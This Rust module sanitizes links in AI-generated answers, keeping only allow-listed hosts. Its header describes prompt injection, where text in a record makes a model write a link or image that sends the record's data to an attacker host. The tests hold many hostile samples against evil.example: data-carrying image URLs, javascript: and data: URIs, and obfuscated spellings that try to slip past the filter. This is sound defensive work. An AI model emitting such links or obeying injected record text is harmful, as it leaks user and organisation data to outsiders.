//! Links of an answer: those to hosts that the org allows stay as they are, of all others only the words stay.
//!
//! # Why
//! Whoever writes into a record can ask a model to write a link or an image whose address carries the record's data to a
//! host of theirs; an image does so as soon as it is shown. So an answer keeps a link only where its host is on the org's
//! list, and the address is read as a browser reads it (`url`), with every way that HTML and Markdown have to spell it:
//! entities, backslashes, user names before an `@`, unseen characters.
//!
//! To take a link out can join what stood around it to a new one (`ht[](x)tp://…`), so it is done until nothing is left
//! to do. Addresses without a scheme and a `www.` are left: `report.pdf` looks the same.

mod address;
mod bare;
mod markdown;
mod tags;

use crate::domain::LinkHost;
use crate::salesforce::clean;

/// What stands in the place of a link that had no words.
const REMOVED: &str = "[link removed]";
/// More passes than any honest text needs; after them every opening of an address that is still there is broken.
const PASSES: usize = 6;

/// `text`, plain or Markdown, without the addresses of hosts that are not among `hosts`, and without unseen characters.
///
/// A link becomes its text, an image its description, an address by itself `[link removed]`.
pub fn keep_allowed(text: &str, hosts: &[LinkHost]) -> String {
    until_still(text, hosts, |text| {
        let text = markdown::keep_allowed(text, hosts);
        let text = tags::keep_allowed(&text, hosts);
        bare::keep_allowed_in_text(&text, hosts)
    })
}

/// As [`keep_allowed`], for HTML.
pub fn keep_allowed_html(html: &str, hosts: &[LinkHost]) -> String {
    until_still(html, hosts, |html| {
        let html = tags::keep_allowed(html, hosts);
        bare::keep_allowed_in_text(&html, hosts)
    })
}

fn until_still(text: &str, hosts: &[LinkHost], pass: impl Fn(&str) -> String) -> String {
    let mut text = clean(text).into_owned();
    for _ in 0..PASSES {
        let next = pass(&text);
        if next == text {
            return text;
        }
        text = next;
    }
    bare::broken(&text, hosts)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn hosts() -> Vec<LinkHost> {
        ["acme.my.salesforce.com", "acme.example"]
            .map(|host| LinkHost::parse(host).unwrap())
            .into()
    }

    #[test]
    fn links_to_allowed_hosts_stay_as_they_are() {
        for text in [
            "see [the deal](https://acme.my.salesforce.com/0065f00000QwErTAAV).",
            "![chart](https://files.acme.example/a_(1).png \"title\")",
            "https://www.acme.example/x, <http://WWW.acme.example>, https://www.acme.example/?u=https://acme.example",
            "<https://acme.example/x> and https://ACME.example:8443/y?z=1#w, www.acme.example.",
            "<a href=\"https://acme.example/x?a=1&amp;b=2\">x</a> <img src='https://acme.example/x.png' alt=x>",
            "[docs][d]\n\n[d]: https://acme.example/d",
            "[mail](mailto:jens@acme.example) [call](tel:+41445550133) [home](/lightning/page)",
            "Plain: 3/4, and//or, 10:30, ratio 1:2 // no link, http: none, data: 5, JavaScript: a language, [x] (y) [1]",
            "`a::b` C:\\temp, e.g. report.pdf, jens@other.example",
        ] {
            assert_eq!(keep_allowed(text, &hosts()), text);
        }
        let html =
            "<p>A &amp; B<br/><a class=\"x\" href=\"https://acme.example/\">x</a> 1 &lt; 2</p>";
        assert_eq!(keep_allowed_html(html, &hosts()), html);
    }

    #[test]
    fn links_elsewhere_keep_their_words_alone() {
        for (text, kept) in [
            (
                "see [the deal](https://evil.example/?d=1).",
                "see the deal.",
            ),
            ("![chart](https://evil.example/a.png?d=secret)", "chart"),
            ("![](https://evil.example/a.png)", "[link removed]"),
            (
                "[![alt](https://evil.example/i)](https://evil.example/l)",
                "alt",
            ),
            ("[x](<https://evil.example/a b> 'title')", "x"),
            ("<https://evil.example/x>!", "[link removed]!"),
            (
                "go to https://evil.example/x?y=1, now",
                "go to [link removed], now",
            ),
            ("www.evil.example/x", "[link removed]"),
            ("(//evil.example/x.png)", "([link removed])"),
            (
                "[docs][D] ![i][d]\n\n[d]: https://evil.example/d \"t\"",
                "docs i\n\n",
            ),
            ("[docs]\n\n[docs]: //evil.example", "docs\n\n"),
            ("<a href=\"https://evil.example\">x</a> y", "x y"),
            ("<img alt=\"chart\" src=https://evil.example/x>", "chart"),
            ("[x](javascript:alert(1))", "x"),
            ("[x](data:text/html;base64,AAAA)", "x"),
            ("ftp://acme.example/x", "[link removed]"),
        ] {
            assert_eq!(keep_allowed(text, &hosts()), kept, "{text}");
        }
    }

    #[test]
    fn no_spelling_of_an_address_passes() {
        for address in [
            "https://acme.example@evil.example/",
            "https://acme.example%40evil.example/",
            "https://evil.example\\@acme.example/",
            "https:\\\\evil.example/",
            "https:/\\evil.example",
            "https:evil.example",
            "HTTPS://EVIL.EXAMPLE",
            "https://acme.example.evil.example",
            "https://notacme.example",
            "https://аcme.example/",
            "//evil.example",
            "\\\\evil.example\\x",
            "https://evil。example/",
            "&#104;ttps://evil.example",
            "https&colon;//evil.example",
            "&#x6A;avascript:alert(1)",
            "jav&Tab;ascript:alert(1)",
            "https://[2001:db8::1]/x",
            "http://192.0.2.1/",
            "http\u{200b}s://evil.example",
            "https\\://evil.example",
            "ht\ttps://evil.example",
            "wss://evil.example/x",
        ] {
            for text in [
                format!("[w]({address})"),
                format!("![w]({address})"),
                format!("<a href=\"{address}\">w</a>"),
                format!("<img src=\"{address}\" alt='w'>"),
                format!("<img src={address} alt='w'>"),
            ] {
                let kept = keep_allowed(&text, &hosts());
                assert!(
                    !kept.contains("evil") && !kept.contains("alert") && !kept.contains("192"),
                    "{text}: {kept}"
                );
                assert!(
                    !kept.contains("2001") && !kept.contains("acme"),
                    "{text}: {kept}"
                );
            }
            let html = format!("<p><a title=x href='{address}'><b>w</b></a></p>");
            assert_eq!(
                keep_allowed_html(&html, &hosts()),
                "<p><b>w</b></p>",
                "{address}"
            );
        }
    }

    #[test]
    fn other_attributes_that_load_or_lead_are_links_too() {
        for tag in [
            "<img srcset=\"https://evil.example/a 1x, /b 2x\">",
            "<video poster=//evil.example/p>",
            "<div style=\"background:url(https://evil.example/x)\">",
            "<table background='https://evil.example/x'>",
            "<form action=https://evil.example>",
            "<svg><use xlink:href=\"https://evil.example#a\"/></svg>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<a ping='https://evil.example' href=/x>x</a>",
        ] {
            let kept = keep_allowed_html(tag, &hosts());
            assert!(!kept.contains("evil"), "{tag}: {kept}");
        }
    }

    #[test]
    fn what_is_left_after_a_removal_is_looked_at_again() {
        for text in [
            "ht[t](https://evil.example)ps://evil.example/x",
            "<a hr<a href=https://evil.example>ef=https://evil.example>x",
            "https://acme.example/?u=https://evil.example/",
            "https://www.acme.example/https://evil.example/",
            "https://www.acme.example/www.evil.example",
            "https://www.evil.example/x",
            "[a](https://evil.example/[b](https://evil.example/))",
        ] {
            let kept = keep_allowed(text, &hosts());
            assert!(!kept.contains("evil"), "{text}: {kept}");
        }
        let nested = format!(
            "{}x{}",
            "[".repeat(40),
            "](https://evil.example)".repeat(40)
        );
        assert!(!keep_allowed(&nested, &hosts()).contains("evil"));
    }

    proptest! {
        #[test]
        fn no_address_of_another_host_is_left(
            text in "(\\[|\\]|\\(|\\)|!|<|>|\"|'|=| |\n|a href|img src|x|https:|http:|//|/|\\\\|www\\.|evil\\.example|acme\\.example|@|&#47;|:|\\]: |\\]\\(https://evil\\.example|\u{200b}){0,24}"
        ) {
            for kept in [keep_allowed(&text, &hosts()), keep_allowed_html(&text, &hosts())] {
                let lower = kept.to_lowercase().replace("&#47;", "/");
                for opening in ["http://", "https://", "www."] {
                    for (at, _) in lower.match_indices(opening) {
                        // Nothing takes a `www.` inside of a word for an address.
                        let in_word = opening == "www." && lower[..at].ends_with(char::is_alphanumeric);
                        let rest = if in_word { "" } else { &lower[at + opening.len()..] };
                        // What stands before an allowed host is below it: `evil.examplewww.acme.example`.
                        let ends = |c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '-');
                        let host = rest.split(ends).next().unwrap_or_default();
                        let is_below = host.ends_with(".acme.example");
                        prop_assert!(!rest.starts_with("evil.example") || is_below, "{:?} -> {:?}", text, kept);
                    }
                }
                prop_assert_eq!(keep_allowed_html(&kept, &hosts()), kept.as_str());
            }
        }
    }
}
